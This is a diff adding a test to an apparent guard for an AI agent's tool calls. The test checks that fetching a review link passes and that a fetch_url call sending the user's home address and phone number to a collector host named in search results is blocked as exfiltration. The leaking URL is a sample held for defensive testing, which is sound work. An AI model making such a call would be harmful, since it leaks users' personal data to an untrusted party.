@@ -97,3 +97,13 @@ describe('encoded output after an injected instruction', () => {
     expect(clean[2]!.filter((f) => f.rule === 'encoded-output-after-injection')).toEqual([]);
   });
 });
+
+describe('read-only network tools', () => {
+  it('following a link a page named is browsing; a data-carrying query to that host is exfiltration', () => {
+    const start: StreamEvent = { kind: 'run.start', runId: 'r', input: 'Find reviews of the new phone' };
+    const page = result('web_search', 'Top result: https://reviews.example.net/phone and https://collector.example.org/c');
+    const out = replay([start, page, call('fetch_url', { url: 'https://reviews.example.net/phone' }), call('fetch_url', { url: 'https://collector.example.org/c?d=the-users-home-address-and-phone-number' })], ['data-exfiltration']);
+    expect(blocked(out[2]!)).toEqual([]);
+    expect(blocked(out[3]!)).toContain('data-exfiltration/untrusted-destination');
+  });
+});
